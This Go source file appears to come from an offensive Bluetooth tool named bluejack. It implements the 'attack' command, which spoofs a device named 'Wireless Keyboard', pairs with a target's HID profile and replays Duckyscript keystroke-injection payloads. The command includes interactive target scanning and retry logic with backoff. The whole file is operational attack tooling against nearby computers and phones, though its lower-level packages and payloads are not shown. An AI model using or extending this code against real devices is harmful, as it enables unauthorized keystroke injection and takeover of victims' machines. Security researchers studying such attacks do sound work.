package cmd

import (
	"context"
	"fmt"
	"log/slog"
	"os"
	"os/signal"
	"syscall"
	"time"

	"github.com/bluejack/bluejack/ducky"
	"github.com/bluejack/bluejack/internal/bluez"
	"github.com/bluejack/bluejack/internal/log"
	"github.com/bluejack/bluejack/internal/session"
	"github.com/bluejack/bluejack/l2cap"
)

// Attack pairs with the target's HID profile and replays a payload.
type Attack struct {
	Adapter string `help:"Bluetooth adapter to use" default:"hci0" env:"BLUEJACK_ADAPTER"`
	Target  string `help:"Target MAC address (XX:XX:XX:XX:XX:XX); prompts interactively when omitted" env:"BLUEJACK_TARGET"`
	Payload string `help:"Duckyscript payload file; prompts interactively when omitted" type:"path"`

	PayloadDir   string `help:"Directory listed by the interactive payload picker" default:"payloads" type:"path"`
	KnownDevices string `help:"Flat file of remembered targets" default:"known_devices.txt" type:"path"`

	DeviceName  string `help:"Adapter name advertised to the target" default:"Wireless Keyboard"`
	DeviceClass string `help:"Adapter device class advertised to the target" default:"0x002540"`

	ConnectTimeout time.Duration `help:"Per-channel connect timeout" default:"10s"`
	KeyDelay       time.Duration `help:"Delay between press and release reports" default:"100us"`
	ChordDelay     time.Duration `help:"Delay between press and release for modifier chords" default:"4ms"`

	MaxAttempts   int           `help:"Connection attempts before giving up (0 retries forever)" default:"10"`
	ReconnectWait time.Duration `help:"Base wait between reconnect attempts" default:"2s"`
	MaxWait       time.Duration `help:"Backoff cap between reconnect attempts" default:"30s"`
	ScanWindow    time.Duration `help:"Discovery window for the interactive target picker" default:"10s"`
}

// Run is called by kong when the attack command is executed.
func (a *Attack) Run(logger *slog.Logger, rawLogger log.RawLogger) error {
	if err := bluez.Preflight(); err != nil {
		fmt.Fprintf(os.Stderr, "[!] CRITICAL: %v\n", err)
		return err
	}

	target := a.Target
	if target == "" {
		picked, err := chooseTarget(a.KnownDevices, a.Adapter, a.ScanWindow, logger)
		if err != nil {
			return err
		}
		target = picked
	}
	if !l2cap.ValidAddr(target) {
		return fmt.Errorf("invalid target address %q, want XX:XX:XX:XX:XX:XX", target)
	}

	payload := a.Payload
	if payload == "" {
		picked, err := choosePayload(a.PayloadDir)
		if err != nil {
			return err
		}
		payload = picked
	}
	script, err := ducky.Load(payload)
	if err != nil {
		return err
	}
	if len(script) == 0 {
		return fmt.Errorf("payload file %s is empty", payload)
	}
	logger.Info("payload loaded", "file", payload, "lines", len(script))

	ctrl := session.New(session.Config{
		Adapter:        a.Adapter,
		Target:         target,
		DeviceName:     a.DeviceName,
		DeviceClass:    a.DeviceClass,
		ConnectTimeout: a.ConnectTimeout,
		KeyDelay:       a.KeyDelay,
		ChordDelay:     a.ChordDelay,
		Retry: session.RetryPolicy{
			MaxAttempts: a.MaxAttempts,
			Wait:        a.ReconnectWait,
			MaxWait:     a.MaxWait,
		},
	}, logger, rawLogger)

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	return ctrl.Run(ctx, script)
}
